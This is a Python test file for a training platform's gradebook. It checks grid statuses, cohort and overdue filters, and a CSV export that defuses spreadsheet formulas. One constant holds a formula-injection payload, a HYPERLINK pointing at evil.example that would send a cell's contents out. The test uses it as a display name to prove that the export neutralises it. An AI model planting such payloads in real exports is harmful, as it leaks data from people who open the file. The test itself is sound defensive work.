"""Gradebook: the trainee × quiz grid, its filters, and a CSV export that round-trips and cannot run formulas."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from mesolearn.accounts import Accounts
from mesolearn.cohorts import CohortError, Cohorts, gradebook, to_csv
from mesolearn.cohorts.gradebook import COLUMNS, safe_cell
from mesolearn.quiz.attempts import Attempts
from mesolearn.storage import Database
from tests.conftest import Clock
from tests.factories import take

ROOT = Path(__file__).resolve().parents[2]
T0 = datetime(2030, 3, 1, 9, 0, 0)
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def scenario(tmp_path, course):
    """Two trainees in two cohorts.

    zoe (cohort Day): history passed (100) after a failed 50; technique failed 30; history due yesterday.
    yann (cohort Night): history in progress (open attempt); history due yesterday -> overdue;
    exam due in a week.
    """
    db = Database(f"sqlite:///{tmp_path}/t.db")
    clock = Clock(T0)
    accounts = Accounts(db, clock)
    cohorts = Cohorts(db, accounts, clock, course=course)
    teacher = accounts.create_user("teacher", "Teacher", "teacher-pass", "instructor")
    zoe = accounts.create_user("zoe", "Zoé Bernard", "zoe-pass1", "trainee", "zoe@example.org")
    yann = accounts.create_user("yann", EVIL, "yann-pass", "trainee", "yann@example.org")
    day = cohorts.create_cohort("Day", teacher.id)
    night = cohorts.create_cohort("Night", teacher.id)
    cohorts.add_member(day.id, zoe.id)
    cohorts.add_member(night.id, yann.id)
    attempts = Attempts(db, course, clock)
    take(attempts, zoe.id, "history", 5)
    clock.now += timedelta(hours=1)
    take(attempts, zoe.id, "history", 10, seed=2)
    clock.now += timedelta(hours=1)
    take(attempts, zoe.id, "technique", 3)
    last_zoe = clock.now
    attempts.start(yann.id, "history", seed=4)
    for cohort in (day, night):
        cohorts.assign("history", T0 - timedelta(days=1), cohort_id=cohort.id, instructor_id=teacher.id)
    cohorts.assign("certification", T0 + timedelta(days=7), user_id=yann.id, instructor_id=teacher.id)
    yield dict(db=db, now=clock.now, zoe=zoe, yann=yann, day=day, night=night, last_zoe=last_zoe)
    db.dispose()


def grid(rows):
    return {(r.username, r.quiz_id): r for r in rows}


def test_grid_rows_order_statuses_scores_attempts(scenario, course):
    db, now = scenario["db"], scenario["now"]
    rows = gradebook(db, course, now=now)
    quiz_ids = [m.id for m in course.modules.values() if m.quiz] + list(course.exams)
    assert len(rows) == 2 * len(quiz_ids)
    # trainees by name (EVIL starts with '=' and sorts first), quizzes in course order then exams
    assert [r.quiz_id for r in rows[: len(quiz_ids)]] == quiz_ids
    assert quiz_ids[-1] == "certification" and rows[-1].kind == "exam"
    g = grid(rows)
    assert {u for u, _ in g} == {"zoe", "yann"}  # instructors are not in the gradebook

    h = g["zoe", "history"]
    assert (h.status, h.best_score, h.attempts, h.overdue) == ("passed", 100.0, 2, False)
    assert h.assigned and h.due_at == T0 - timedelta(days=1)
    t = g["zoe", "technique"]
    assert (t.status, t.best_score, t.attempts, t.assigned, t.due_at, t.overdue) == (
        "not passed",
        30.0,
        1,
        False,
        None,
        False,
    )  # submitted at 30 %: not "in progress"
    assert t.last_activity == scenario["last_zoe"]
    assert g["zoe", "methods"].status == "not started" and g["zoe", "methods"].best_score is None

    y = g["yann", "history"]
    assert (y.status, y.best_score, y.attempts, y.overdue) == ("in progress", None, 0, True)
    assert y.last_activity is not None
    e = g["yann", "certification"]
    assert (e.status, e.assigned, e.overdue) == ("not started", True, False)
    assert not g["zoe", "certification"].assigned


def test_cohort_and_status_filters(scenario, course):
    db, now = scenario["db"], scenario["now"]
    day = gradebook(db, course, cohort_id=scenario["day"].id, now=now)
    assert {r.username for r in day} == {"zoe"}
    passed = gradebook(db, course, status="passed", now=now)
    assert [(r.username, r.quiz_id) for r in passed] == [("zoe", "history")]
    progress = gradebook(db, course, status="in progress", now=now)
    assert {(r.username, r.quiz_id) for r in progress} == {("yann", "history")}
    not_passed = gradebook(db, course, status="not passed", now=now)
    assert {(r.username, r.quiz_id) for r in not_passed} == {("zoe", "technique")}
    overdue = gradebook(db, course, status="overdue", now=now)
    assert [(r.username, r.quiz_id) for r in overdue] == [("yann", "history")]
    night_ns = gradebook(db, course, cohort_id=scenario["night"].id, status="not started", now=now)
    assert len(night_ns) == len(course.modules) + len(course.exams) - 1
    # the clock decides what is overdue
    early = gradebook(db, course, status="overdue", now=T0 - timedelta(days=2))
    assert early == []
    with pytest.raises(ValueError):
        gradebook(db, course, status="failed", now=now)
    with pytest.raises(CohortError):
        gradebook(db, course, cohort_id=999, now=now)


def test_csv_export_round_trips_and_neutralises_formulas(scenario, course):
    rows = gradebook(scenario["db"], course, now=scenario["now"])
    text = to_csv(rows)
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed[0] == COLUMNS
    assert len(parsed) == len(rows) + 1
    body = [dict(zip(parsed[0], r, strict=False)) for r in parsed[1:]]
    by_key = {(r["username"], r["quiz_id"]): r for r in body}
    zoe = by_key["zoe", "history"]
    assert (zoe["display_name"], zoe["status"], zoe["best_score"], zoe["attempts"], zoe["overdue"]) == (
        "Zoé Bernard",
        "passed",
        "100",
        "2",
        "no",
    )
    assert zoe["due_at"] == (T0 - timedelta(days=1)).strftime("%Y-%m-%d %H:%M")
    yann = by_key["yann", "history"]
    assert yann["display_name"] == "'" + EVIL  # quote, comma and formula survive, inert
    assert yann["overdue"] == "yes" and yann["best_score"] == ""
    assert all(not v.startswith(("=", "+", "-", "@")) for r in parsed for v in r)


def test_safe_cell_rules():
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("+33 6 12") == "'+33 6 12"
    assert safe_cell("-2") == "'-2"
    assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("  =cmd") == "'  =cmd"
    assert safe_cell("\tx") == "'\tx"
    assert safe_cell("Anne-Marie") == "Anne-Marie"
    assert safe_cell(None) == "" and safe_cell(True) == "yes" and safe_cell(72.5) == "72.5"
    text = to_csv([{"display_name": 'He said "hi", then\nleft', "status": "passed"}])
    assert list(csv.reader(io.StringIO(text, newline="")))[1][2] == 'He said "hi", then\nleft'
